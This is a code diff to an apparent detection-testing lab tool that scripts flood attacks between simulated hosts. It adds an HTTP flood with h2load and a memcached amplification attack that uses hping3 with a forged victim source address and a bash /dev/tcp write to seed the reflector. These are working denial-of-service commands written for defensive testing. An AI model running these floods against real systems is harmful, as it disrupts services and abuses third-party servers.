@@ -1,4 +1,6 @@
 /** Floods: SYN, ACK, UDP and ICMP, from true and from forged sources. */
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { type Attack, single } from './attack.ts';
 
 const speeds = { fast: [1000, 5000], medium: [100, 300], slow: [50, 70] } as const;
@@ -55,6 +57,47 @@ export const floods: readonly Attack[] = [
   hping('icmp', ['flood.icmp'], '--icmp'),
   hping('icmp.forged', ['flood.icmp'], '--icmp --rand-source'),
   hping('icmp.silent', ['flood.icmp'], '--icmp', 'dark'),
+  {
+    class: 'flood.http',
+    alerts: ['flood.http'],
+    technique: 'T1499.002',
+    tool: 'h2load',
+    needs: ['h2load'],
+    speeds: { fast: [300, 1500], medium: [70, 200] },
+    plan(site, rate, speed) {
+      const target = site.address('web');
+      const seconds = speed === 'fast' ? 10 : 35;
+      const command = `h2load --h1 -c 10 --rps ${Math.ceil(rate / 10)} -n ${Math.round(rate * seconds)} http://${target}/index.html`;
+      return single('evil', command, [site.address('evil')], [target], seconds + 5);
+    },
+  },
+  {
+    class: 'flood.amplification',
+    alerts: ['flood.amplification'],
+    technique: 'T1498.002',
+    tool: 'memcached',
+    needs: ['memcached', 'hping3'],
+    speeds,
+    // The attacker named is the reflector: it sends what the victim gets.
+    plan(site, rate) {
+      const [reflector, victim] = [site.address('bob'), site.address('alice')];
+      const query = join(site.network.directory, 'memcached-query');
+      writeFileSync(query, Buffer.from('\0\x01\0\0\0\x01\0\0get page\r\n', 'latin1'));
+      const store = `printf 'set page 0 3600 1300\\r\\n%1300s\\r\\nquit\\r\\n' x > /dev/tcp/${reflector}/11211`;
+      const count = Math.round(Math.min(6000, Math.max(500, rate * 4)));
+      const seconds = Math.ceil(count / rate) + 8;
+      const ask = `hping3 -q --udp -p 11211 -a ${victim} -E ${query} -d 18 -i u${Math.round(1e6 / rate)} -c ${count} ${reflector}`;
+      return {
+        jobs: [
+          { host: 'bob', argv: ['timeout', `${seconds}`, 'memcached', '-u', 'nobody', '-l', reflector, '-p', '11211', '-U', '11211'] },
+          { host: 'evil', argv: ['bash', '-c', `sleep 1; ${store}; ${ask}`] },
+        ],
+        attackers: [reflector],
+        victims: [victim],
+        seconds,
+      };
+    },
+  },
   {
     class: 'flood.mac',
     alerts: ['flood.mac'],
